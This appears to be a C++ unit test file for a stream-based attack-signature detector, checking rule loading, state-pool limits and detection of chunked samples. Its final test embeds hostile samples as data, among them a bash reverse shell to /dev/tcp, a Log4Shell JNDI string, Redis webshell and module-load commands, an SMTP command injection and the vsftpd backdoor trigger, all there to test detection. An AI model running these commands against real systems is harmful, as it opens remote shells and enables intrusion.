// StreamSignatureDatabase and the rule files: stream rules load, compile and
// stay out of the field database (a rule naming stream and field zones is in
// both); errors name file and line; the shipped
// configs/rules/stream.yaml rules each find their attack split into 1-byte
// chunks. StreamStatePool: exhaustion, oversize and unbound threads are
// counted and safe.

#include "detect/stream_signature/stream_signature_database.h"

#include <gtest/gtest.h>

#include <cstdlib>
#include <string>
#include <thread>

#include "detect/signature/signature_database.h"
#include "parsers/field.h"
#include "stream_test_rules.h"

namespace weir::detect {
namespace {

using testing::SavingSink;
using testing::stream_db_from;
using testing::stream_rule;

std::string load_error(const std::string& yaml, bool build = false) {
  try {
    RuleSet rs;
    load_rules_text(yaml, "t.yaml", rs);
    if (build) StreamSignatureDatabase::build(rs);
  } catch (const RuleError& e) {
    return e.what();
  }
  return "";
}

TEST(StreamRuleLoadTest, StreamNextToFieldZonesIsScannedByBothEngines) {
  RuleSet rs;
  load_rules_text("rules:\n  - id: mixed\n    message: m\n    class: other\n    severity: error\n"
                  "    zones: [stream, query_arg]\n    patterns: [\"abc\"]\n" + stream_rule("only", "def"),
                  "t.yaml", rs);
  ASSERT_EQ(rs.rules.size(), 2u);
  EXPECT_EQ(rs.rules[0].zones & stream_zone_mask(), stream_zone_mask());
  auto fields = SignatureDatabase::build(rs);
  auto streams = StreamSignatureDatabase::build(rs);
  EXPECT_GE(fields->find_rule("mixed"), 0);
  EXPECT_EQ(fields->find_rule("only"), -1);
  EXPECT_EQ(streams->rules().size(), 2u);
  EXPECT_GE(streams->find_rule("mixed"), 0);
  EXPECT_GE(streams->find_rule("only"), 0);
}

TEST(StreamRuleLoadTest, StreamRulesTakeNoTransformsNamesOrConfirm) {
  for (const char* extra : {"    transforms: [url_decode]\n", "    names: [x]\n",
                            "    confirm: sqli\n"}) {
    std::string err = load_error("rules:\n" + stream_rule("s", "abc", extra));
    EXPECT_NE(err.find("t.yaml:8: key '"), std::string::npos) << err;
    EXPECT_NE(err.find("in a rule with zone stream"), std::string::npos) << err;
  }
}

TEST(StreamRuleLoadTest, AnyMeansRequestFieldsNotTheStream) {
  EXPECT_NE(any_request_zone_mask(), 0u);
  EXPECT_EQ(any_request_zone_mask() & stream_zone_mask(), 0u);
  parse::Zone z{};
  ASSERT_TRUE(parse::zone_from_name("stream", z));
  EXPECT_EQ(z, parse::Zone::Stream);
}

TEST(StreamRuleLoadTest, HyperscanCompileErrorsNameThePatternsLine) {
  std::string err = load_error("rules:\n" + stream_rule("ok", "abc") + stream_rule("bad", "a(b"),
                               true);
  EXPECT_EQ(err.rfind("t.yaml:13: key 'patterns'", 0), 0u) << err;
  EXPECT_NE(err.find("rule 'bad'"), std::string::npos) << err;
}

TEST(StreamSignatureDatabaseTest, FieldAndStreamRulesGoToTheirOwnDatabases) {
  RuleSet rs;
  load_rules_text("rules:\n" + stream_rule("s1", "stream-only") +
                      "  - id: f1\n    message: m\n    class: sqli\n    severity: error\n"
                      "    zones: [any]\n    patterns: [\"union select\"]\n",
                  "t.yaml", rs);
  auto fields = SignatureDatabase::build(rs);
  auto streams = StreamSignatureDatabase::build(rs);
  EXPECT_EQ(fields->find_rule("s1"), -1);
  EXPECT_GE(fields->find_rule("f1"), 0);
  ASSERT_EQ(streams->rules().size(), 1u);
  EXPECT_EQ(streams->rules()[0].id, "s1");
  EXPECT_EQ(streams->find_rule("f1"), -1);
  EXPECT_GT(streams->stream_state_bytes(), 0u);
}

TEST(StreamSignatureDatabaseTest, ParanoiaAboveThePolicyLeavesARuleOut) {
  auto db = stream_db_from("rules:\n" + stream_rule("p1", "aaa") +
                           stream_rule("p2", "bbb", "    paranoia: 2\n"));
  ASSERT_EQ(db->rules().size(), 1u);
  EXPECT_EQ(db->rules()[0].id, "p1");
}

TEST(StreamSignatureDatabaseTest, NoStreamRulesGivesADatabaseThatScansNothing) {
  auto db = stream_db_from(
      "rules:\n  - id: f1\n    message: m\n    class: sqli\n    severity: error\n"
      "    zones: [query_arg]\n    patterns: [\"union select\"]\n");
  EXPECT_TRUE(db->empty());
  EXPECT_EQ(db->hs_db(), nullptr);
  EXPECT_EQ(db->stream_state_bytes(), 0u);
  StreamScratch scratch;
  EXPECT_TRUE(scratch.prepare(*db));
  EXPECT_EQ(scratch.get(), nullptr);  // no Hyperscan allocation at all
  StreamScanner s;
  EXPECT_EQ(s.open(*db), StreamOpenStatus::NoRules);  // even without a bound pool
  SavingSink sink;
  EXPECT_EQ(s.scan(scratch, "union select", 0, sink).status, StreamScanStatus::Idle);
  EXPECT_EQ(s.close(scratch, sink).status, StreamScanStatus::Idle);
  EXPECT_TRUE(sink.got.empty());
  EXPECT_TRUE(stream_db_from("")->empty());
}

TEST(StreamStatePoolTest, ExhaustionIsCountedAndTheDirectionIsNotScanned) {
  auto db = stream_db_from("rules:\n" + stream_rule("m", "marker"));
  StreamStatePool pool(db->stream_state_bytes(), 2);
  ASSERT_TRUE(pool.bind_to_this_thread());
  StreamScratch scratch;
  ASSERT_TRUE(scratch.prepare(*db));
  SavingSink sink;
  StreamScanner a, b, c;
  EXPECT_EQ(a.open(*db), StreamOpenStatus::Open);
  EXPECT_EQ(b.open(*db), StreamOpenStatus::Open);
  EXPECT_EQ(c.open(*db), StreamOpenStatus::PoolExhausted);
  EXPECT_EQ(pool.exhausted(), 1u);
  EXPECT_EQ(pool.in_use(), 2u);
  EXPECT_EQ(c.scan(scratch, "marker", 0, sink).status, StreamScanStatus::Idle);
  EXPECT_TRUE(sink.got.empty());
  a.close(scratch, sink);
  EXPECT_EQ(c.open(*db), StreamOpenStatus::Open);  // the freed block is reused
  c.scan(scratch, "marker", 0, sink);
  EXPECT_EQ(sink.got.size(), 1u);
  b.discard();
  c.discard();
  EXPECT_EQ(pool.in_use(), 0u);
  EXPECT_EQ(pool.high_water(), 2u);
  StreamStatePool::unbind_this_thread();
}

TEST(StreamStatePoolTest, TooSmallBlocksAndUnboundThreadsRefuseSafely) {
  auto db = stream_db_from("rules:\n" + stream_rule("m", "marker"));
  StreamStatePool small(db->stream_state_bytes() - 1, 4);
  ASSERT_TRUE(small.bind_to_this_thread());
  StreamScanner s;
  EXPECT_EQ(s.open(*db), StreamOpenStatus::StateTooLarge);
  EXPECT_EQ(small.in_use(), 0u);
  EXPECT_FALSE(s.is_open());

  // Another thread without a pool of its own cannot take this one's blocks.
  StreamOpenStatus other = StreamOpenStatus::Open;
  std::thread t([&] {
    StreamScanner x;
    other = x.open(*db);
  });
  t.join();
  EXPECT_EQ(other, StreamOpenStatus::NoPool);
  StreamStatePool::unbind_this_thread();
  EXPECT_EQ(s.open(*db), StreamOpenStatus::NoPool);
}

// The shipped stream rules: each finds its sample split into 1-byte chunks.
TEST(StreamSignatureDatabaseTest, ShippedRulesFindTheirSamplesInOneByteChunks) {
  const char* root = std::getenv("WEIR_SOURCE_ROOT");
  ASSERT_NE(root, nullptr);
  RuleSet rs;
  load_rules_file(std::string(root) + "/configs/rules/stream.yaml", rs);
  auto db = StreamSignatureDatabase::build(rs);
  StreamStatePool pool(db->stream_state_bytes(), 4);
  ASSERT_TRUE(pool.bind_to_this_thread());
  StreamScratch scratch;
  ASSERT_TRUE(scratch.prepare(*db));
  struct Case {
    const char* rule;
    std::string bytes;
  } cases[] = {
      {"stream-test-marker", "GET x\r\nWEIR-TEST-MARKER-7f3a\r\n"},
      {"stream-redis-config-set", "*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$8\r\n/var/www\r\n"},
      {"stream-redis-config-set", "config set dbfilename shell.php\r\n"},
      {"stream-redis-module-load", "MODULE LOAD /tmp/exp.so\r\n"},
      {"stream-smtp-mailfrom-cmd", "HELO a\r\nMAIL FROM:<;sleep 66;>\r\n"},
      {"stream-ftp-vsftpd-smiley", "USER anon:)\r\nPASS x\r\n"},
      {"stream-jndi-lookup", "EHLO ${jndi:ldap://198.18.0.9/a}\r\n"},
      {"stream-reverse-shell", "bash -i >& /dev/tcp/198.18.0.9/4444 0>&1\n"},
      {"stream-passwd-content", "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/:/usr/sbin/nologin\n"},
  };
  for (const Case& c : cases) {
    SavingSink sink;
    StreamScanner s;
    ASSERT_EQ(s.open(*db), StreamOpenStatus::Open);
    for (size_t i = 0; i < c.bytes.size(); ++i) s.scan(scratch, c.bytes.substr(i, 1), i, sink);
    s.close(scratch, sink);
    ASSERT_EQ(sink.got.size(), 1u) << c.rule;
    EXPECT_EQ(sink.got[0].rule_id, c.rule);
  }
  // Benign traffic of the same protocols stays quiet.
  SavingSink quiet;
  StreamScanner s;
  ASSERT_EQ(s.open(*db), StreamOpenStatus::Open);
  s.scan(scratch, "CONFIG GET maxmemory\r\nSET user:1 alice\r\nMAIL FROM:<a@b.example>\r\n"
                  "USER alice\r\nroot:x:0:0 is not a passwd line\r\n", 0, quiet);
  s.close(scratch, quiet);
  EXPECT_TRUE(quiet.got.empty());
  EXPECT_EQ(pool.in_use(), 0u);
  StreamStatePool::unbind_this_thread();
}

}  // namespace
}  // namespace weir::detect
